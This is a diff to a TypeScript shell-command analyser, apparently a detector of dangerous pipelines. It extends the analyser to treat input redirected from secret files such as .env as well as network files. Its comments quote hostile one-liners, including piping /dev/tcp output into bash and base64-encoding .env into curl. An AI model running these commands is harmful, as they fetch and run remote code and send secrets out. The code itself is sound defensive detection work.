@@ -5,6 +5,7 @@
 
 import type { Word } from '../../engine/effect.ts'
 import { isNetworkFile } from '../catalogue/dangers.ts'
+import { isSecret } from '../catalogue/dangers/secrets.ts'
 import { handedToXargs } from './output/fed.ts'
 import type { Line } from './line.ts'
 import { type ArgvOf, FARTHEST, handedTo, saidInside } from './plausible/said.ts'
@@ -195,20 +196,26 @@ function stagesUpTo({ pipeline, stage }: Stage, line: Line, argvOf: ArgvOf): Com
   const upstream: (readonly Word[])[] = []
   for (let at = Math.max(0, stage - FARTHEST); at < stage; at++) {
     const found = line.stageAt(pipeline, at)
-    if (found !== undefined) upstream.push([...argvOf(found), ...connectionsOf(found)])
+    if (found !== undefined) upstream.push(fedWith(found, argvOf))
   }
   return upstream.length === 0 ? undefined : upstream
 }
 
-/** `cat < /dev/tcp/host/80 | bash`: what it reads comes from there. */
-function connectionsOf({ redirects }: SimpleCommand): readonly Word[] {
-  if (redirects.length === 0) return NO_CONNECTIONS
-  return redirects.flatMap(({ op, target }) =>
-    op === '<' && isNetworkFile(target?.value ?? '') ? [target?.value ?? ''] : [],
-  )
+/**
+ * `cat < /dev/tcp/host/80 | bash`, `base64 < .env | curl …`: its words and, where that tells something, what it reads.
+ * `$(< .env)` is `$(cat .env)`.
+ */
+function fedWith(command: SimpleCommand, argvOf: ArgvOf): readonly Word[] {
+  const argv = argvOf(command)
+  const files = command.redirects.flatMap(({ op, target }) => {
+    const file = op === '<' ? (target?.value ?? '') : ''
+    return isNetworkFile(file) || isSecret(file) ? [file] : []
+  })
+  if (files.length === 0) return argv
+  return argv.length === 0 ? ['cat', ...files] : [...argv, ...files]
 }
 
-const NO_CONNECTIONS: readonly Word[] = []
+const NO_WORDS: readonly Word[] = []
 
 /** `curl … | (bash)`, `curl … | while read x; do …`: the stage whose input the group reads. */
 function pipeAround({ scope, pipeline }: SimpleCommand, { scopes }: Script): Stage | undefined {
@@ -224,8 +231,10 @@ function commandsIn(words: readonly ShellWord[], script: Script, argvOf: ArgvOf)
   for (const { parts } of words) for (const { scope } of parts) if (scope >= 0) (scopes ??= new Set()).add(scope)
   if (scopes === undefined) return undefined
   const inside: (readonly Word[])[] = []
-  for (const other of script.commands)
-    if (other.words.length > 0 && isWithin(other.scope, scopes, script)) inside.push(argvOf(other))
+  for (const other of script.commands) {
+    const argv = isWithin(other.scope, scopes, script) ? fedWith(other, argvOf) : NO_WORDS
+    if (argv.length > 0) inside.push(argv)
+  }
   return inside.length === 0 ? undefined : inside
 }
 
